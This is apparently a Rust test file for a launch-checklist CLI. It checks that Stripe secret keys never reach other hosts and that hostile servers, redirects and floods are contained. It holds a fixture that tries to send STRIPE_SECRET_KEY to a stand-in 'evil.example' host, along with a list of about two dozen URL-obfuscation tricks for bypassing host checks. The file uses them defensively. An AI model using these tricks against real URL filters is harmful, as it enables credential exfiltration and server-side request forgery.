//! Hosts that mean harm: what they say is not obeyed, where they lead is not followed, what they send
//! without an end is not read, and no spelling of an address has a key of Stripe's sent to them.

use std::fs;
use std::time::Duration;

use crate::hostile::{RAW, manual, shows_all};
use crate::support::{Golive, Launch, SMALL};

/// Stripe's keys are for Stripe: a checklist cannot have them sent to a host of its own.
#[test]
fn a_stripe_key_is_lent_to_no_host() {
    let item = |url: &str| {
        format!(
            "\n[[phase.item]]\nid = \"steal\"\nkind = \"http\"\ntitle = \"Steal\"\nurl = \"{url}\"\nbearer = \"STRIPE_SECRET_KEY\"\nexpect = {{ status = 200 }}\n"
        )
    };
    let server = Listener::start("HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok");
    let launch = Launch::of(&(SMALL.to_owned() + &item("https://evil.example/")));
    let resolve = format!("shop.example={},evil.example=127.0.0.1:{}", launch.simulator.shop_addr, server.port);
    let output = launch.wizard().env("GOLIVE_RESOLVE", resolve).run();
    let got = server.heard();
    assert_eq!(got, "", "not even a connection was made");
    let status = launch.golive("status --all --mode live").run();
    let said = status.stdout.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(said.contains("goes to Stripe alone"), "{output}\n{status}");
}

/// A host of one's own that answers with whatever it likes, to one connection after another.
pub struct Listener {
    pub port: u16,
    heard: std::sync::Arc<std::sync::Mutex<String>>,
}

impl Listener {
    pub fn start(answer: &str) -> Self {
        use std::io::{Read as _, Write as _};
        let socket = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = socket.local_addr().unwrap().port();
        let heard = std::sync::Arc::<std::sync::Mutex<String>>::default();
        let (into, answer) = (std::sync::Arc::clone(&heard), answer.to_owned());
        std::thread::spawn(move || {
            for stream in socket.incoming() {
                let Ok(mut stream) = stream else { return };
                let _ = stream.set_read_timeout(Some(Duration::from_secs(10)));
                let mut buffer = [0; 16 * 1024];
                let count = stream.read(&mut buffer).unwrap_or(0);
                into.lock().unwrap().push_str(&String::from_utf8_lossy(&buffer[..count]));
                let _ = stream.write_all(answer.as_bytes());
            }
        });
        Self { port, heard }
    }

    pub fn heard(&self) -> String {
        self.heard.lock().unwrap().clone()
    }
}

#[test]
fn what_a_host_says_is_never_obeyed_and_its_redirects_are_not_followed() {
    let item = |id: &str, host: &str| {
        format!(
            "\n[[phase.item]]\nid = \"{id}\"\nkind = \"http\"\ntitle = \"{id}\"\nurl = \"http://{host}/\"\nexpect = {{ status = 200, contains = \"welcome\" }}\n"
        )
    };
    let inside = Listener::start("HTTP/1.1 200 OK\r\ncontent-length: 7\r\n\r\nwelcome");
    let body = format!("<title>{RAW}</title>");
    let hostile = Listener::start(&format!(
        "HTTP/1.1 500 {}\r\nx-evil: a\u{9b}b\r\ncontent-length: {}\r\n\r\n{body}",
        "Oh",
        body.len()
    ));
    let leads = format!(
        "HTTP/1.1 302 Found\r\nlocation: http://127.0.0.1:{}/{}\r\ncontent-length: 0\r\n\r\n",
        inside.port, "\u{9b}x"
    );
    let redirect = Listener::start(&leads);
    let folder = tempfile::tempdir().unwrap();
    let text = manual("title = \"A\"") + &item("evil", "evil.example") + &item("leads", "leads.example");
    fs::write(folder.path().join("golive.toml"), text).unwrap();
    let resolve = format!("evil.example=127.0.0.1:{},leads.example=127.0.0.1:{}", hostile.port, redirect.port);
    for line in ["check --mode live -v", "check --mode live --json", "check --mode live"] {
        let output = Golive::new(folder.path(), folder.path()).args(line).env("GOLIVE_RESOLVE", &resolve).run();
        assert_ne!(output.code, 2, "the checklist of this test is valid: {output}");
        shows_all(line, &output);
    }
    assert!(!redirect.heard().is_empty(), "the redirect was seen");
    assert_eq!(inside.heard(), "", "and not followed");
}

/// A live key goes to Stripe's own name or to this computer, however the address is spelt.
#[test]
fn no_spelling_of_an_address_sends_a_live_key_elsewhere() {
    let launch = Launch::small();
    let trap = Listener::start("HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\n{}");
    let port = trap.port;
    let tricks = [
        format!("http://127.0.0.1@evil.example:{port}"),
        format!("http://evil.example:{port}@127.0.0.1"),
        format!("http://127.0.0.1.evil.example:{port}"),
        format!("http://localhost.evil.example:{port}"),
        format!("http://2130706433:{port}"),
        format!("http://0x7f000001:{port}"),
        format!("http://017700000001:{port}"),
        format!("http://127.1:{port}"),
        format!("http://0:{port}"),
        format!("http://0.0.0.0:{port}"),
        format!("http://[::ffff:127.0.0.1]:{port}"),
        format!("http://[::ffff:7f00:1]:{port}"),
        format!("http://[::]:{port}"),
        format!("http://[64:ff9b::7f00:1]:{port}"),
        format!("http://127.0.0.1:{port}#@evil.example"),
        format!("http://127.0.0.1:{port}/../?x"),
        format!("http://evil.example#127.0.0.1:{port}"),
        format!("//127.0.0.1:{port}"),
        format!("http:\\\\127.0.0.1:{port}"),
        format!("http://１２７.0.0.1:{port}"),
        "https://api.stripe.com.evil.example".into(),
        "https://api.stripe.com@evil.example".into(),
        "https://api.stripe.com:443@evil.example".into(),
        "https://API.STRIPE.COM.".into(),
        "http://api.stripe.com".into(),
        "unix:///tmp/socket".into(),
    ];
    for trick in &tricks {
        let output = launch.keyed("plan --mode live").env("GOLIVE_API_BASE", trick).run().exits(4);
        assert!(output.stderr.contains("GL1202"), "{trick}: {output}");
    }
    assert_eq!(trap.heard(), "", "nothing was asked of the trap");
    assert_eq!(launch.requests(), 0);
}

/// `localhost` is a name: whatever a resolver makes of it, the key goes to this computer.
#[test]
fn localhost_is_this_computer_whatever_a_resolver_says() {
    let launch = Launch::small();
    let url = launch.simulator.url.replace("127.0.0.1", "localhost");
    let trap = Listener::start("HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\n{}");
    let resolve = format!("localhost=127.0.0.1:{},shop.example={}", trap.port, launch.simulator.shop_addr);
    let output =
        launch.keyed("plan --mode live --json").env("GOLIVE_API_BASE", url).env("GOLIVE_RESOLVE", resolve).run();
    assert!(launch.requests() > 0, "the simulator was asked: {output}");
    assert_eq!(trap.heard(), "");
}

/// Over TLS only a certificate that Mozilla's roots vouch for will do, whatever this computer adds.
#[test]
fn a_certificate_that_only_this_computer_trusts_is_not_stripes() {
    let launch = Launch::small();
    let tls = format!("https://127.0.0.1:{}", launch.simulator.shop_addr.port());
    let output = launch.keyed("plan --mode live").env("GOLIVE_API_BASE", tls).run();
    assert_eq!(output.code, 75, "{output}");
    assert!(output.stderr.contains("cannot be reached"), "{output}");
}

/// A host that never stops talking: what is read of it has an end, and so has the time.
#[test]
fn a_host_that_never_stops_is_read_to_a_limit() {
    let flood = |head: &str, line: &str| Listener::start(&(head.to_owned() + &line.repeat(3_000_000 / line.len())));
    let page = flood("HTTP/1.1 200 OK\r\n\r\n", "welcome ");
    let headers = flood("HTTP/1.1 200 OK\r\n", "x-a: b\r\n");
    let mail = flood("220 ", "mail");
    let lines = flood("220-a\r\n", "220-mail\r\n");
    let redis = flood("+", "PONG");
    let item = |id: &str, kind: &str, rest: &str| {
        format!("\n[[phase.item]]\nid = \"{id}\"\nkind = \"{kind}\"\ntitle = \"{id}\"\n{rest}\n")
    };
    let folder = tempfile::tempdir().unwrap();
    let text = manual("title = \"A\"")
        + &item("page", "http", "url = \"http://page.example/\"\nexpect = { status = 200, contains = \"welcome\" }")
        + &item("headers", "http", "url = \"http://headers.example/\"\nexpect = { status = 200 }")
        + &item("mail", "smtp", "host = \"mail.example\"")
        + &item("lines", "smtp", "host = \"lines.example\"")
        + &item("redis", "tcp", "host = \"redis.example\"\nport = 6379\nspeaks = \"redis\"");
    fs::write(folder.path().join("golive.toml"), text).unwrap();
    let hosts = [("page", &page), ("headers", &headers), ("mail", &mail), ("lines", &lines), ("redis", &redis)];
    let resolve: Vec<String> =
        hosts.iter().map(|(name, host)| format!("{name}.example=127.0.0.1:{}", host.port)).collect();
    let golive = Golive::new(folder.path(), folder.path()).env("GOLIVE_RESOLVE", resolve.join(","));
    let output = golive.args("check --mode live --json").run();
    assert_eq!(output.code, 3, "{output}");
    let status: serde_json::Value = serde_json::from_str(&output.stdout).unwrap();
    let items = status["phases"][0]["items"].as_array().unwrap();
    let state = |id: &str| items.iter().find(|item| item["id"] == format!("p.{id}")).unwrap()["state"].clone();
    assert_eq!(state("page"), "done", "what is looked for stands in what is read: {output}");
    for id in ["headers", "mail", "lines", "redis"] {
        assert_ne!(state(id), "done", "{id}: {output}");
    }
    assert!(output.stdout.len() < 64 * 1024, "{} bytes were shown", output.stdout.len());
}
